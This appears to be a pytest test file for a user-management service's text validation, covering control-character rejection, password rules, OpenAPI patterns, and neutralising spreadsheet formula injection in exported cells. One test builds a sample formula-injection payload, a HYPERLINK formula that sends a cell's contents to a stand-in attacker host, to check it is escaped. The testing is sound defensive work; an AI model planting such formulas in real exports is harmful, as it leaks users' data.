"""The text rules: which characters a field refuses (and that its OpenAPI pattern says
the same), and text made safe for the files we write."""

from __future__ import annotations

import re
from typing import Any

import pytest
from pydantic import BaseModel, ValidationError

from prodigy_users.runtime.problems import field_errors
from prodigy_users.runtime.text import (
    FORMULA_STARTS,
    PASTED_PATTERN,
    TEXT_PATTERN,
    Email,
    Name,
    Pasted,
    Secret,
    Text,
    cell_text,
    describe,
    plain_text,
)

C0 = [chr(c) for c in range(0x20)]
C1 = [chr(c) for c in range(0x80, 0xA0)]
CONTROLS = [*C0, "\x7f", *C1, "\u2028", "\u2029"]
SEPARATORS = ["\t", "\n", "\r"]


class Body(BaseModel):
    name: Name
    employee_id: Text | None = None
    email: Email | None = None
    pasted: Pasted | None = None
    password: Secret | None = None


def errors(**values: Any) -> list[dict[str, str]]:
    try:
        Body.model_validate({"name": "Ana", **values})
    except ValidationError as exc:
        return field_errors(exc.errors())
    return []


@pytest.mark.parametrize("char", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
def test_every_control_character_is_refused_in_free_text_naming_the_field(char: str) -> None:
    for field, ok in (("name", "Ana Lima"), ("employee_id", "E-1"), ("email", "ana@example.org")):
        for bad in (char + ok, ok[:2] + char + ok[2:], ok + char):
            found = errors(**{field: bad})
            assert [e["field"] for e in found] == [field], (field, bad, found)
            assert describe(char) in found[0]["message"]
            assert "control characters" in found[0]["message"]


@pytest.mark.parametrize("char", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
def test_pasted_text_keeps_its_separators_and_nothing_else(char: str) -> None:
    found = errors(pasted=f"ana@example.org{char}bo@example.org")
    assert (found == []) is (char in SEPARATORS), found


def test_passwords_refuse_only_what_cannot_be_stored() -> None:
    assert errors(password="tab\there, bell\x07, C1\x85: all fine") == []
    [nul] = errors(password="a\x00b")
    assert nul == {"field": "password", "message": "must not contain U+0000 (NUL)"}
    [surrogate] = errors(password="a\ud800b")
    assert surrogate["message"] == "must not contain U+D800 (lone surrogate)"


def test_names_are_collapsed_and_never_blank() -> None:
    assert Body.model_validate({"name": "  Ana   Lima "}).name == "Ana Lima"
    assert errors(name="   ") == [{"field": "name", "message": "must not be blank"}]
    # Unicode is welcome; only control characters are not.
    assert Body.model_validate({"name": "Zoë Çelik-Łukasz 李"}).name == "Zoë Çelik-Łukasz 李"


def test_lone_surrogates_are_refused_in_text() -> None:
    [found] = errors(name="A\udc00")
    assert "U+DC00 (lone surrogate)" in found["message"]


@pytest.mark.parametrize(
    ("pattern", "allowed"), [(TEXT_PATTERN, set()), (PASTED_PATTERN, set(SEPARATORS))]
)
def test_the_documented_pattern_says_what_validation_does(pattern: str, allowed: set[str]) -> None:
    documented = re.compile(pattern)
    for code in [*range(0x00, 0x100), 0x2028, 0x2029, 0x200B, 0xFEFF]:
        char = chr(code)
        field = "pasted" if allowed else "employee_id"
        refused = bool(errors(**{field: f"a{char}b"}))
        assert (documented.fullmatch(f"a{char}b") is None) is refused, f"U+{code:04X}"


def test_characters_are_named() -> None:
    assert describe("\x00") == "U+0000 (NUL)"
    assert describe("\t") == "U+0009 (tab)"
    assert describe("\x01") == "U+0001"
    assert describe("\u2028") == "U+2028 (line separator)"


# -- text leaving in files ----------------------------------------------------------------


PREFIXES = ["", *CONTROLS, " "]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("prefix", PREFIXES, ids=lambda c: f"U+{ord(c):04X}" if c else "none")
def test_a_cell_never_starts_a_formula_and_holds_no_control(start: str, prefix: str) -> None:
    value = prefix + start + 'HYPERLINK("http://evil.example/?x="&B2)'
    cell = cell_text(value)
    assert not any(c in cell for c in CONTROLS), repr(cell)
    if start in "=+-@":
        assert cell == "'" + (prefix if prefix == " " else "") + value.lstrip(prefix), repr(cell)
    else:  # the tab or CR itself was the danger: it is gone, and nothing else starts one
        assert cell == 'HYPERLINK("http://evil.example/?x="&B2)', repr(cell)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Ana Lima", "Ana Lima"),
        ("a=b", "a=b"),
        ("", ""),
        ("#N/A", "#N/A"),
        ("Ana\tLima", "Ana Lima"),
        ("Ana\x00\x07Lima", "AnaLima"),
        ("\x01=1+1", "'=1+1"),
        ("\t=1+1", "'=1+1"),
        ("\r\n@SUM(A1)", "'@SUM(A1)"),
        ("\x85-2", "'-2"),
        ("\u2028+2", "'+2"),
        ("x\ud800y", "xy"),
        ("x\ufffey", "xy"),
    ],
)
def test_cells_lose_control_characters_first_and_formulas_after(value: str, expected: str) -> None:
    assert cell_text(value) == expected


def test_plain_text_leaves_printable_text_alone() -> None:
    for value in ("Ana Lima", " padded ", "Zoë\u00a0Çelik", "=1+1", "emoji 😀"):
        assert plain_text(value) == value
